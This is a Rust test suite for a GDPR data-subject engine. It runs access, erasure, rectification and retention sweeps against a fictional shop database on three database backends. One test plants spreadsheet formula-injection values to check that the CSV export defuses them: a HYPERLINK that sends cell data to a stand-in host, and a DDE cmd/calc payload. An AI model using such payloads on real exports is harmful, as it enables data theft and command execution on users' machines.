#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]
//! Access, erasure, rectification and sweeps on a small web shop, on SQLite and on real
//! PostgreSQL and MariaDB servers (waarborg-testkit; a missing server fails the test).

mod common;

use common::*;
use waarborg_engine::{
    Engine, EngineError, EraseOptions, Lang, Subject, SweepOptions, art15_info, write_access_export,
};

fn key() -> Option<Vec<u8>> {
    Some(b"test-key".to_vec())
}

fn opts() -> EraseOptions {
    EraseOptions {
        now: Some(now()),
        hash_key: key(),
        ..EraseOptions::default()
    }
}

async fn access_finds_reachable_rows(kind: Kind) {
    let db = shop(kind).await;
    let engine = Engine::connect(&datasets(&db), &[]).await.unwrap();
    let report = engine
        .access(&Subject::new("email", "jan@example.nl"))
        .await
        .unwrap();
    let count = |t: &str| {
        report
            .tables
            .iter()
            .find(|x| x.table == t)
            .map_or(0, |x| x.rows.len())
    };
    assert_eq!(count("customer"), 1);
    assert_eq!(count("address"), 1);
    assert_eq!(count("orders"), 2);
    assert_eq!(count("invoice"), 2);
    assert_eq!(count("newsletter"), 1);
    assert_eq!(count("ticket"), 2);
    assert_eq!(report.total_rows, 9);
    // No row of Piet.
    let json = serde_json::to_string(&report).unwrap();
    assert!(!json.contains("piet@example.nl"));
    assert!(!json.contains("Pietersen"));
    // Art. 15 information from the register, and the export files.
    let info = art15_info(Some(&register()), &report, Lang::En);
    assert_eq!(info.controller, "Testwinkel B.V.");
    assert!(info.purposes.iter().any(|p| p.name == "Handling orders"));
    // In the language asked for: the register's English names and words.
    assert!(
        info.recipients
            .iter()
            .any(|r| r == "Parcel carrier (the Netherlands)"),
        "{:?}",
        info.recipients
    );
    assert!(
        info.retention
            .iter()
            .any(|r| r == "Handling orders: we keep them for 2 years after the order. Then we make them anonymous."),
        "{:?}",
        info.retention
    );
    // Periods and data in words, never as ISO durations or fideslang keys.
    assert!(info.retention.iter().all(|r| !r.contains("P2Y")));
    assert!(
        info.categories.iter().any(|c| c.contains("e-mail")),
        "{:?}",
        info.categories
    );
    assert!(info.categories.iter().all(|c| !c.starts_with("user.")));
    assert!(info.complaint.contains("Autoriteit Persoonsgegevens"));
    let dir = tempfile::tempdir().unwrap();
    let files = write_access_export(dir.path(), &report, &info).unwrap();
    assert!(files.iter().any(|f| f.ends_with("shop.orders.csv")));
    let csv = std::fs::read_to_string(dir.path().join("shop.customer.csv")).unwrap();
    assert!(csv.starts_with("id,email,name,phone,last_contact"));
    assert!(csv.contains("Jan Jansen"));
    let v: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(dir.path().join("access.json")).unwrap())
            .unwrap();
    assert_eq!(v["format"], "waarborg-access/1");
    // By phone too (a second identity kind).
    let by_phone = engine
        .access(&Subject::new("phone", "0612345678"))
        .await
        .unwrap();
    assert_eq!(
        by_phone.total_rows, 8,
        "the newsletter is reachable by e-mail only"
    );
}

async fn erase_respects_holds_and_is_idempotent(kind: Kind) {
    let db = shop(kind).await;
    let before = others(&db).await;
    let engine = Engine::connect(&datasets(&db), &[]).await.unwrap();
    let reg = register();
    let jan = Subject::new("email", "jan@example.nl");

    // Dry run changes nothing.
    let dry = engine
        .erase(
            &jan,
            Some(&reg),
            &EraseOptions {
                dry_run: true,
                ..opts()
            },
        )
        .await
        .unwrap();
    assert!(dry.dry_run);
    assert_eq!(count(&db, "newsletter").await, 2);

    let cert = engine.erase(&jan, Some(&reg), &opts()).await.unwrap();
    let t = |name: &str| {
        cert.tables
            .iter()
            .find(|x| x.table == name)
            .unwrap()
            .clone()
    };
    assert_eq!(t("address").deleted, 1);
    assert_eq!(t("newsletter").deleted, 1);
    assert_eq!(t("ticket").deleted, 2);
    assert_eq!(t("orders").masked, 2);
    // Customer is referenced by the kept orders: masked, not deleted.
    assert_eq!(t("customer").masked, 1);
    assert!(
        t("customer")
            .reasons
            .iter()
            .any(|r| r.rule == "referenced-row")
    );
    // The recent invoice is held (fiscal), the old one (> 7 years) is masked.
    assert_eq!(t("invoice").kept, 1);
    assert_eq!(t("invoice").masked, 1);
    let held = t("invoice")
        .reasons
        .into_iter()
        .find(|r| r.action == "kept")
        .unwrap();
    assert_eq!(held.rule, "fiscal");
    assert!(held.article.contains("17(3)(b)") && held.article.contains("AWR"));
    assert_eq!(cert.scheduled.len(), 1);
    assert_eq!(cert.scheduled[0].not_before, "2033-09-02");
    assert_eq!(cert.remaining_changes, 0);
    assert!(cert.databases.iter().all(|d| d.committed));
    let cert_json = serde_json::to_string(&cert).unwrap();
    assert!(
        !cert_json.contains("jan@example.nl"),
        "no personal data in the certificate"
    );

    // The database: Jan's personal data gone, held invoice keeps the name only.
    let cust = rows(&db, "SELECT email, name, phone FROM customer WHERE id = 1").await;
    let parts: Vec<&str> = cust[0].split('|').collect();
    assert_ne!(parts[0], "jan@example.nl");
    assert_eq!(parts[0].len(), 64, "hashed e-mail");
    assert_eq!(&parts[1..], &["NULL", "NULL"]);
    assert_eq!(count(&db, "address").await, 2);
    assert_eq!(
        rows(&db, "SELECT note FROM orders WHERE customer_id = 1").await,
        vec!["NULL", "NULL"]
    );
    let inv = rows(
        &db,
        "SELECT CAST(id AS TEXT), name, email FROM invoice WHERE order_id IN (10, 11) ORDER BY id",
    )
    .await;
    assert!(inv[0].starts_with("100|Jan Jansen|"), "{inv:?}");
    assert!(!inv[0].contains("jan@example.nl"));
    assert!(
        inv[1].starts_with("101|NULL|") && !inv[1].contains("jan@"),
        "{inv:?}"
    );
    assert_eq!(others(&db).await, before, "no other person's row changed");

    // Idempotent: a second run changes nothing.
    let snapshot = rows(
        &db,
        "SELECT CAST(id AS TEXT), email, name FROM customer ORDER BY id",
    )
    .await;
    let again = engine.erase(&jan, Some(&reg), &opts()).await;
    match again {
        Ok(c) => {
            assert!(c.tables.iter().all(|t| t.deleted == 0 && t.masked == 0));
            assert_eq!(c.remaining_changes, 0);
        }
        Err(e) => panic!("{e}"),
    }
    assert_eq!(
        rows(
            &db,
            "SELECT CAST(id AS TEXT), email, name FROM customer ORDER BY id"
        )
        .await,
        snapshot
    );
}

async fn erase_without_key_fails_cleanly(kind: Kind) {
    let db = shop(kind).await;
    let engine = Engine::connect(&datasets(&db), &[]).await.unwrap();
    let err = engine
        .erase(
            &Subject::new("email", "jan@example.nl"),
            Some(&register()),
            &EraseOptions {
                hash_key: None,
                ..opts()
            },
        )
        .await
        .unwrap_err();
    assert!(matches!(err, EngineError::MissingKey));
    assert_eq!(count(&db, "newsletter").await, 2, "nothing changed");
}

async fn rectify_validates_and_updates(kind: Kind) {
    let db = shop(kind).await;
    let engine = Engine::connect(&datasets(&db), &[]).await.unwrap();
    let jan = Subject::new("email", "jan@example.nl");
    let cert = engine
        .rectify(
            &jan,
            &[
                ("customer.name".into(), "Jan de Vries".into()),
                ("address.city".into(), "Amersfoort".into()),
            ],
            &opts(),
        )
        .await
        .unwrap();
    assert_eq!(cert.tables.iter().map(|t| t.rectified).sum::<u64>(), 2);
    assert_eq!(
        rows(&db, "SELECT name FROM customer WHERE id = 1").await,
        vec!["Jan de Vries"]
    );
    assert_eq!(
        rows(&db, "SELECT city FROM address WHERE id = 1").await,
        vec!["Amersfoort"]
    );
    assert_eq!(
        rows(&db, "SELECT name FROM customer WHERE id = 2").await,
        vec!["Piet Pietersen"]
    );
    // Unqualified column: every table of the person that has it (customer.name, invoice.name).
    let cert = engine
        .rectify(&jan, &[("name".into(), "J. de Vries".into())], &opts())
        .await
        .unwrap();
    assert_eq!(cert.tables.iter().map(|t| t.rectified).sum::<u64>(), 3);
    // Second time: unchanged.
    let cert = engine
        .rectify(&jan, &[("name".into(), "J. de Vries".into())], &opts())
        .await
        .unwrap();
    assert_eq!(cert.tables.iter().map(|t| t.rectified).sum::<u64>(), 0);
    // Only the person's personal data is rectified: an order total or a timestamp is not.
    for spec in ["orders.total", "customer.last_contact"] {
        let err = engine
            .rectify(
                &jan,
                &[(spec.into(), "2026-11-01 08:00:00".into())],
                &opts(),
            )
            .await
            .unwrap_err();
        assert!(
            matches!(&err, EngineError::InvalidValue { message, .. } if message.contains("no personal data")),
            "{err}"
        );
    }
    let err = engine
        .rectify(&jan, &[("customer.id".into(), "5".into())], &opts())
        .await
        .unwrap_err();
    assert!(matches!(err, EngineError::InvalidValue { .. }), "{err}");
    let err = engine
        .rectify(&jan, &[("nope".into(), "x".into())], &opts())
        .await
        .unwrap_err();
    assert!(matches!(err, EngineError::InvalidValue { .. }), "{err}");
}

async fn sweep_expires_by_rule(kind: Kind) {
    let db = shop(kind).await;
    let engine = Engine::connect(&datasets(&db), &[]).await.unwrap();
    let reg = register();
    let dry = engine
        .sweep(
            &reg,
            now(),
            &SweepOptions {
                dry_run: true,
                batch_size: 1,
                ..SweepOptions::default()
            },
        )
        .await
        .unwrap();
    let r = |rep: &waarborg_engine::SweepReport, rule: &str| {
        rep.rules.iter().find(|x| x.rule == rule).unwrap().clone()
    };
    assert_eq!(r(&dry, "invoices-5y").expired, 2);
    assert_eq!(
        r(&dry, "invoices-5y").held,
        1,
        "2021 invoice: past 5 years, still under the 7-year hold"
    );
    assert_eq!(r(&dry, "invoices-5y").deleted, 1);
    assert_eq!(count(&db, "invoice").await, 4, "dry run changes nothing");

    let rep = engine
        .sweep(
            &reg,
            now(),
            &SweepOptions {
                batch_size: 1,
                hash_key: key(),
                ..SweepOptions::default()
            },
        )
        .await
        .unwrap();
    // Invoice 101 (2018) deleted; 201 (2021) held.
    assert_eq!(r(&rep, "invoices-5y").deleted, 1);
    assert_eq!(
        rows(&db, "SELECT CAST(id AS TEXT) FROM invoice ORDER BY id").await,
        vec!["100", "200", "201"]
    );
    // Orders older than 2 years anonymised (note nulled), not deleted.
    assert_eq!(r(&rep, "orders-anon").anonymised, 2);
    assert_eq!(
        rows(
            &db,
            "SELECT CAST(id AS TEXT), COALESCE(note, 'NULL') FROM orders ORDER BY id"
        )
        .await,
        vec!["10|bel even aan", "11|NULL", "20|bij de buren", "21|NULL"]
    );
    // Klaas (last contact 2020) expired, but his address references him: skipped, not broken.
    assert_eq!(r(&rep, "customers-2y").expired, 1);
    assert_eq!(r(&rep, "customers-2y").deleted, 0);
    assert_eq!(r(&rep, "customers-2y").skipped, 1);
    // Old ticket deleted.
    assert_eq!(r(&rep, "tickets-1y").deleted, 1);
    assert_eq!(count(&db, "ticket").await, 2);
    // Idempotent.
    let again = engine
        .sweep(
            &reg,
            now(),
            &SweepOptions {
                hash_key: key(),
                ..SweepOptions::default()
            },
        )
        .await
        .unwrap();
    assert!(
        again
            .rules
            .iter()
            .all(|x| x.deleted == 0 && x.anonymised == 0),
        "{again:?}"
    );
    // Once Klaas's address is gone, he goes too.
    exec(&db, "DELETE FROM address WHERE customer_id = 3").await;
    let rep = engine
        .sweep(&reg, now(), &SweepOptions::default())
        .await
        .unwrap();
    assert_eq!(r(&rep, "customers-2y").deleted, 1);
}

async fn schema_mismatch_is_a_typed_error(kind: Kind) {
    let db = shop(kind).await;
    let text = SHOP_DATASETS.replace(
        "street = \"user.contact.address.street\"",
        "straat = \"user.contact.address.street\"",
    );
    let mut ds = waarborg_engine::Datasets::from_toml(&text).unwrap();
    ds.bind(&[("shop".into(), db.url.clone())]).unwrap();
    match Engine::connect(&ds, &[]).await.unwrap_err() {
        EngineError::SchemaMismatch(p) => {
            assert_eq!(p.len(), 1);
            assert_eq!(p[0].column.as_deref(), Some("straat"));
            assert!(p[0].to_string().contains("shop.address.straat"));
        }
        other => panic!("{other}"),
    }
    // A hash strategy on an integer column is refused before any write.
    let text = SHOP_DATASETS.replace(
        "total = \"system.operations\"",
        "total = { category = \"user.financial\", masking = { strategy = \"hash\" } }",
    );
    let mut ds = waarborg_engine::Datasets::from_toml(&text).unwrap();
    ds.bind(&[("shop".into(), db.url.clone())]).unwrap();
    assert!(matches!(
        Engine::connect(&ds, &[]).await.unwrap_err(),
        EngineError::SchemaMismatch(_)
    ));
    // A missing table.
    let text = format!(
        "{SHOP_DATASETS}\n[databases.shop.tables.ghost]\ncolumns = {{ id = \"system.operations\" }}\n"
    );
    let mut ds = waarborg_engine::Datasets::from_toml(&text).unwrap();
    ds.bind(&[("shop".into(), db.url.clone())]).unwrap();
    assert!(matches!(
        Engine::connect(&ds, &[]).await.unwrap_err(),
        EngineError::SchemaMismatch(_)
    ));
    // Unbound database.
    let ds = waarborg_engine::Datasets::from_toml(SHOP_DATASETS).unwrap();
    assert!(matches!(
        Engine::connect(&ds, &[]).await.unwrap_err(),
        EngineError::Unbound(_)
    ));
}

async fn scan_proposes_a_dataset(kind: Kind) {
    let db = shop(kind).await;
    let ds = waarborg_engine::scan("shop", &db.url).await.unwrap();
    let text = ds.to_toml().unwrap();
    let back = waarborg_engine::Datasets::from_toml(&text).unwrap();
    let shop = back.database("shop").unwrap();
    let cust = shop.tables.iter().find(|t| t.name == "customer").unwrap();
    assert_eq!(
        cust.column("email").unwrap().identity.as_deref(),
        Some("email")
    );
    assert_eq!(
        cust.column("phone").unwrap().category.as_deref(),
        Some("user.contact.phone_number")
    );
    let orders = shop.tables.iter().find(|t| t.name == "orders").unwrap();
    assert_eq!(orders.references.len(), 1);
    assert_eq!(orders.references[0].target.table, "customer");
    // The proposal connects and finds Jan.
    let engine = Engine::connect(&back, &[]).await.unwrap();
    let rep = engine
        .access(&Subject::new("email", "jan@example.nl"))
        .await
        .unwrap();
    assert!(rep.total_rows >= 4, "{}", rep.total_rows);
}

/// Requests run on a connection the engine keeps between them; concurrent requests take
/// others from the pool, and a request that fails on a broken connection does not leave it to
/// the next one.
async fn requests_share_kept_connection_safely(kind: Kind) {
    let db = shop(kind).await;
    let engine = Engine::connect(&datasets(&db), &[]).await.unwrap();
    let jan = Subject::new("email", "jan@example.nl");
    let piet = Subject::new("email", "piet@example.nl");
    // Concurrent requests: each on its own connection.
    let (a, b, c) = tokio::join!(
        engine.access(&jan),
        engine.access(&piet),
        engine.access(&jan)
    );
    assert_eq!(a.unwrap().total_rows, 9);
    assert!(b.unwrap().total_rows > 0);
    assert_eq!(c.unwrap().total_rows, 9);
    // A failed request (no hash key) changes nothing and the next one works.
    let no_key = EraseOptions {
        hash_key: None,
        ..opts()
    };
    assert!(matches!(
        engine.erase(&jan, Some(&register()), &no_key).await,
        Err(EngineError::MissingKey)
    ));
    assert_eq!(engine.access(&jan).await.unwrap().total_rows, 9);
    if kind == Kind::Maria {
        // The same on MariaDB: KILL every other connection to the test database.
        let ids = rows(
            &db,
            "SELECT CAST(ID AS TEXT) FROM information_schema.PROCESSLIST \
             WHERE DB = DATABASE() AND ID <> CONNECTION_ID()",
        )
        .await;
        assert!(!ids.is_empty(), "the engine holds a connection");
        for id in ids {
            exec(&db, &format!("KILL {id}")).await;
        }
    }
    if kind != Kind::Sqlite {
        // The server ends every connection of the engine: requests fail until broken
        // connections are gone, then work again on fresh ones.
        if kind == Kind::Pg {
            exec(
                &db,
                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity \
                 WHERE datname = current_database() AND pid <> pg_backend_pid()",
            )
            .await;
        }
        let mut failed = 0;
        while engine.access(&jan).await.is_err() {
            failed += 1;
            assert!(failed <= 5, "the engine keeps using a broken connection");
        }
        for _ in 0..3 {
            assert_eq!(engine.access(&jan).await.unwrap().total_rows, 9);
        }
    }
    let cert = engine
        .erase(&jan, Some(&register()), &opts())
        .await
        .unwrap();
    assert_eq!(cert.remaining_changes, 0);
}

/// Foreign keys from tables the dataset does not describe: found when connecting, access
/// still works, erasure and sweep refuse before any write while such a key points at a table
/// they delete from; describing the table fixes it.
async fn undescribed_foreign_keys_refuse_deletes(kind: Kind) {
    let db = shop(kind).await;
    exec(
        &db,
        "CREATE TABLE review (id INTEGER PRIMARY KEY, customer_id INTEGER NOT NULL REFERENCES customer(id), body TEXT);
CREATE TABLE wishlist (id INTEGER PRIMARY KEY, customer_id INTEGER REFERENCES customer(id) ON DELETE CASCADE, item TEXT);
CREATE TABLE shipment (id INTEGER PRIMARY KEY, order_id INTEGER NOT NULL REFERENCES orders(id), carrier TEXT);
INSERT INTO review VALUES (1, 1, 'Prima winkel');
INSERT INTO review VALUES (2, 3, 'Snel geleverd');
INSERT INTO wishlist VALUES (1, 1, 'fiets');
INSERT INTO shipment VALUES (1, 11, 'PostNL');
",
    )
    .await;
    let engine = Engine::connect(&datasets(&db), &[]).await.unwrap();
    // review -> customer (erase = delete, retention rule without override); shipment ->
    // orders (erase = mask, but the retention rule may delete); the cascading wishlist is no
    // problem.
    let found = engine.undescribed_foreign_keys();
    assert_eq!(found.len(), 2, "{found:?}");
    let review = found
        .iter()
        .find(|p| p.table.as_deref() == Some("review"))
        .unwrap();
    assert_eq!(review.column.as_deref(), Some("customer_id"));
    let text = review.to_string();
    // MariaDB reports an ON DELETE left out as RESTRICT (the same thing for InnoDB).
    let default_rule = if kind == Kind::Maria {
        "RESTRICT"
    } else {
        "NO ACTION"
    };
    for want in [
        "shop.review.customer_id",
        "customer(id)",
        default_rule,
        "not in the dataset",
        "add `review` to the dataset file",
        "to = \"customer.id\"",
        "`erase = \"mask\"` on `customer`",
    ] {
        assert!(text.contains(want), "{want}: {text}");
    }
    let shipment = found
        .iter()
        .find(|p| p.table.as_deref() == Some("shipment"))
        .unwrap();
    assert!(
        shipment.message.contains("if its rule deletes"),
        "{shipment}"
    );

    // Access reads on.
    let jan = Subject::new("email", "jan@example.nl");
    assert_eq!(engine.access(&jan).await.unwrap().total_rows, 9);

    // Erasure refuses before any write, dry run included; only the key into a table it
    // deletes from counts (orders are masked).
    let before = rows(
        &db,
        "SELECT CAST(id AS TEXT), email FROM customer ORDER BY id",
    )
    .await;
    for dry_run in [true, false] {
        let o = EraseOptions { dry_run, ..opts() };
        match engine.erase(&jan, Some(&register()), &o).await {
            Err(EngineError::UndescribedForeignKeys {
                operation,
                problems,
            }) => {
                assert_eq!(operation, "erase");
                assert_eq!(problems.len(), 1, "{problems:?}");
                assert_eq!(problems[0].table.as_deref(), Some("review"));
            }
            other => panic!("{other:?}"),
        }
    }
    let err = engine
        .erase(&jan, Some(&register()), &opts())
        .await
        .unwrap_err()
        .to_string();
    assert!(err.starts_with("erase refused before any write"), "{err}");
    assert_eq!(
        rows(
            &db,
            "SELECT CAST(id AS TEXT), email FROM customer ORDER BY id"
        )
        .await,
        before
    );
    assert_eq!(count(&db, "orders").await, 4);

    // The sweep too (customers-2y deletes Klaas, whom a review refers to); the anonymising
    // orders rule is not blocked by shipment.
    match engine
        .sweep(&register(), now(), &SweepOptions::default())
        .await
    {
        Err(EngineError::UndescribedForeignKeys {
            operation,
            problems,
        }) => {
            assert_eq!(operation, "sweep");
            assert_eq!(problems.len(), 1, "{problems:?}");
            assert!(
                problems[0]
                    .message
                    .contains("`action = \"anonymise\"` in the retention of `customer`"),
                "{}",
                problems[0]
            );
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(
        rows(
            &db,
            "SELECT CAST(id AS TEXT), email FROM customer ORDER BY id"
        )
        .await,
        before
    );
    assert_eq!(
        rows(&db, "SELECT note FROM orders WHERE id = 11").await,
        vec!["achterdeur".to_string()]
    );

    // Described, the table is part of the work: Jan's review is deleted (Jan himself is
    // masked, his masked orders still refer to him, so nothing cascades into the wishlist),
    // and the sweep skips Klaas, whom his review still refers to.
    let text = format!(
        "{SHOP_DATASETS}\n[databases.shop.tables.review]\npurposes = [\"service\"]\ncolumns = {{ id = \"system.operations\", customer_id = \"user.unique_id\", body = \"user.content\" }}\nreferences = [{{ column = \"customer_id\", to = \"customer.id\" }}]\n"
    );
    let mut ds = waarborg_engine::Datasets::from_toml(&text).unwrap();
    ds.bind(&[("shop".into(), db.url.clone())]).unwrap();
    let engine = Engine::connect(&ds, &[]).await.unwrap();
    assert_eq!(engine.undescribed_foreign_keys().len(), 1); // shipment -> orders
    assert_eq!(engine.access(&jan).await.unwrap().total_rows, 10);
    let cert = engine
        .erase(&jan, Some(&register()), &opts())
        .await
        .unwrap();
    assert_eq!(cert.remaining_changes, 0);
    assert_eq!(
        rows(&db, "SELECT CAST(id AS TEXT) FROM review ORDER BY id").await,
        vec!["2".to_string()]
    );
    assert_eq!(count(&db, "wishlist").await, 1);
    assert_eq!(count(&db, "customer").await, 3);
    let rep = engine
        .sweep(&register(), now(), &SweepOptions::default())
        .await
        .unwrap();
    assert!(!rep.rules.is_empty());
    assert_eq!(count(&db, "review").await, 1);
}

/// A value that a spreadsheet would run as a formula is defused in the CSV files (a leading
/// `'`) and kept exact in access.json, the portable copy.
async fn access_export_defuses_formulas(kind: Kind) {
    let db = shop(kind).await;
    exec(
        &db,
        "UPDATE customer SET name = '=HYPERLINK(\"http://evil.example/?d=\"&A2,\"klik\")' WHERE id = 1;
UPDATE orders SET note = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE id = 10;
UPDATE orders SET note = '-12.50' WHERE id = 11;
UPDATE address SET street = '+31 Dorpsstraat', city = '-2+3' WHERE id = 1;
UPDATE ticket SET body = '\t=1+1' WHERE id = 1",
    )
    .await;
    let engine = Engine::connect(&datasets(&db), &[]).await.unwrap();
    let report = engine
        .access(&Subject::new("email", "jan@example.nl"))
        .await
        .unwrap();
    let dir = tempfile::tempdir().unwrap();
    write_access_export(
        dir.path(),
        &report,
        &art15_info(Some(&register()), &report, Lang::En),
    )
    .unwrap();
    let cells = |file: &str, column: &str| -> Vec<String> {
        let mut r = csv::Reader::from_path(dir.path().join(file)).unwrap();
        let i = r
            .headers()
            .unwrap()
            .iter()
            .position(|h| h == column)
            .unwrap();
        r.records()
            .map(|x| x.unwrap().get(i).unwrap().to_string())
            .collect()
    };
    assert_eq!(
        cells("shop.customer.csv", "name"),
        ["'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"klik\")"]
    );
    let mut notes = cells("shop.orders.csv", "note");
    notes.sort();
    assert_eq!(notes, ["'@SUM(1+1)*cmd|' /C calc'!A0", "-12.50"]);
    assert_eq!(cells("shop.address.csv", "street"), ["'+31 Dorpsstraat"]);
    assert_eq!(cells("shop.address.csv", "city"), ["'-2+3"]);
    assert!(cells("shop.ticket.csv", "body").contains(&"'\t=1+1".to_string()));
    // Numbers stay numbers, other text stays as it is.
    assert_eq!(cells("shop.customer.csv", "email"), ["jan@example.nl"]);
    // access.json keeps the exact values.
    let v: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(dir.path().join("access.json")).unwrap())
            .unwrap();
    let table = |t: &str| {
        v["tables"]
            .as_array()
            .unwrap()
            .iter()
            .find(|x| x["table"] == t)
            .unwrap()
            .clone()
    };
    assert_eq!(
        table("customer")["rows"][0]["name"],
        "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"klik\")"
    );
    assert_eq!(table("address")["rows"][0]["city"], "-2+3");
    assert!(
        table("ticket")["rows"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r["body"] == "\t=1+1")
    );
}

/// A foreign key written with other letter case than the table (`REFERENCES Customer(id)`)
/// is the same key: SQLite keeps the name as written, PostgreSQL folds it.
async fn undescribed_foreign_key_in_other_case(kind: Kind) {
    let db = shop(kind).await;
    exec(
        &db,
        "CREATE TABLE note (id INTEGER PRIMARY KEY, customer_id INTEGER NOT NULL REFERENCES Customer(id), body TEXT);
INSERT INTO note VALUES (1, 1, 'belt terug');
",
    )
    .await;
    let engine = Engine::connect(&datasets(&db), &[]).await.unwrap();
    let found = engine.undescribed_foreign_keys();
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].table.as_deref(), Some("note"));
    let jan = Subject::new("email", "jan@example.nl");
    assert!(matches!(
        engine.erase(&jan, Some(&register()), &opts()).await,
        Err(EngineError::UndescribedForeignKeys { .. })
    ));
}

/// Every scenario on every backend; the ones after `sqlite_pg:` on SQLite and PostgreSQL only
/// (MariaDB on Linux keeps table names case-sensitive and refuses `REFERENCES Customer` to a
/// table `customer`, so the case-folding scenario does not arise there).
macro_rules! backends {
    ($($name:ident),* ; sqlite_pg: $($only:ident),*) => {
        mod sqlite {
            $(#[tokio::test] async fn $name() { super::$name(super::Kind::Sqlite).await })*
            $(#[tokio::test] async fn $only() { super::$only(super::Kind::Sqlite).await })*
        }
        mod postgres {
            $(#[tokio::test] async fn $name() { super::$name(super::Kind::Pg).await })*
            $(#[tokio::test] async fn $only() { super::$only(super::Kind::Pg).await })*
        }
        mod mariadb {
            $(#[tokio::test] async fn $name() { super::$name(super::Kind::Maria).await })*
        }
    };
}

backends!(
    access_finds_reachable_rows,
    erase_respects_holds_and_is_idempotent,
    erase_without_key_fails_cleanly,
    rectify_validates_and_updates,
    sweep_expires_by_rule,
    schema_mismatch_is_a_typed_error,
    scan_proposes_a_dataset,
    requests_share_kept_connection_safely,
    undescribed_foreign_keys_refuse_deletes,
    access_export_defuses_formulas;
    sqlite_pg: undescribed_foreign_key_in_other_case
);
